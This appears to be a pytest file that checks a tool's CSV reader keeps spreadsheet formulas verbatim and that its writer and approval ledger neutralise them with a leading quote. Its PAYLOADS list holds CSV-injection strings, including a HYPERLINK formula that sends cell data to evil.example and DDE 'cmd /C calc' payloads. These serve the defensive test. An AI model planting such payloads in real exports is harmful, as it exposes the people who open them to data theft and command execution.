"""Spreadsheet formulas in CSV cells: kept verbatim as text on read, neutralised on write.

On read, a formula is data like any other text (a ticket may really be titled "=SUM…");
it must neither be evaluated nor silently altered. On write, every CSV cell that a
spreadsheet would execute gets a leading quote (OWASP "CSV Injection").
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from opsledger.approvals.ledger import Ledger
from opsledger.core.errors import InputError
from opsledger.core.fileio import csv_text, spreadsheet_safe
from opsledger.core.inputs import reader_for
from opsledger.core.problems import Level

from .harness import ReaderTarget, accepted_suffixes, reader_targets, seed_for

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"{}")',
    "+cmd|' /C calc'!A0 {}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {}",
    "-2+3+cmd|' /C calc'!A0 {}",
)


def csv_targets() -> list[ReaderTarget]:
    return [t for t in reader_targets() if ".csv" in accepted_suffixes(t)]


def text_cells(seed: str) -> tuple[list[str], list[str]]:
    rows = list(csv.reader(io.StringIO(seed)))
    return rows[0], rows[1]


def write_csv(path: Path, rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


@pytest.mark.parametrize("target", csv_targets(), ids=lambda t: t.key.value)
def test_formula_cells_are_read_verbatim(
    small_demo: Path, tmp_path: Path, target: ReaderTarget
) -> None:
    seed = seed_for(small_demo, target, ".csv")
    if seed is None:
        pytest.skip(f"the demo has no CSV for {target.key.value}")
    text = seed.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    start = next(i for i, row in enumerate(rows) if row and not row[0].startswith("#"))
    header, first = rows[start], rows[start + 1]
    path = tmp_path / (target.relative if not target.is_folder else target.relative / "x.csv")
    path.parent.mkdir(parents=True, exist_ok=True)
    reader = reader_for(target.key)
    assert reader is not None
    read_at = tmp_path / target.relative
    write_csv(path, rows[: start + 2])
    plain = repr(reader(read_at).records)
    # Free-text cells: those whose value comes through into a record unchanged.
    free = [i for i, cell in enumerate(first)
            if len(cell) >= 3 and any(c.isalpha() for c in cell) and repr(cell) in plain]
    if not free:
        pytest.skip(f"no free-text column in {target.key.value}")
    injected = list(first)
    payloads = {}
    for n, i in enumerate(free):
        payloads[i] = PAYLOADS[n % len(PAYLOADS)].format(first[i].replace('"', ""))
        injected[i] = payloads[i]
    write_csv(path, [*rows[: start + 1], injected])
    result = reader(read_at)
    records = repr(result.records)
    for i, payload in payloads.items():
        quarantined = any(
            p.level is Level.ROW and f"line {start + 2}" in p.location for p in result.problems
        )
        assert repr(payload) in records or quarantined, (
            f"column {header[i]!r}: {payload!r} was altered or dropped without a problem"
        )
        assert repr("'" + payload) not in records


def test_every_written_cell_is_neutralised() -> None:
    cells = [p.format("x") for p in PAYLOADS] + ["\t=1", "\r=1", "-12.5", "plain"]
    text = csv_text(["payload"], [[c] for c in cells])
    read_back = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    # A carriage return comes back as a line feed, inside the cell, not as a new row.
    assert read_back[:-2] == ["'" + c.replace("\r", "\n") for c in cells[:-2]]
    assert read_back[-2:] == ["-12.5", "plain"]  # a number and plain text stay as they are
    assert all(spreadsheet_safe(c)[0] not in "=+@\t\r" for c in cells)


def test_ledger_rows_are_neutralised_and_still_verify(tmp_path: Path) -> None:
    ledger = Ledger(tmp_path / "approval-log.csv", ("stakeholder", "conditions"))
    payload = PAYLOADS[0].format("click")
    row = ledger.append({"stakeholder": "=cmd|' /C calc'!A0", "conditions": payload})
    assert row["stakeholder"] == "'=cmd|' /C calc'!A0"
    assert row["conditions"] == "'" + payload
    stored = ledger.rows()[0]
    assert stored["conditions"] == "'" + payload
    assert ledger.verify() == []


def test_ledger_cell_with_carriage_return_reads_back_whole(tmp_path: Path) -> None:
    ledger = Ledger(tmp_path / "approval-log.csv", ("stakeholder", "conditions"))
    ledger.append({"stakeholder": "Olu", "conditions": "first\rsecond\r\nthird"})
    ledger.append({"stakeholder": "Sue", "conditions": "ok"})
    assert ledger.verify() == []
    assert [r["conditions"] for r in ledger.rows()] == ["first\nsecond\nthird", "ok"]


def test_ledger_refuses_to_extend_a_broken_chain(tmp_path: Path) -> None:
    ledger = Ledger(tmp_path / "waivers.csv", ("gate", "justification"))
    ledger.append({"gate": "g1", "justification": "vendor fix due"})
    path = ledger.path
    path.write_text(path.read_text().replace("vendor fix due", "forever"))
    with pytest.raises(InputError, match="fails verification"):
        ledger.append({"gate": "g2", "justification": "x"})
    assert len(ledger.rows()) == 1
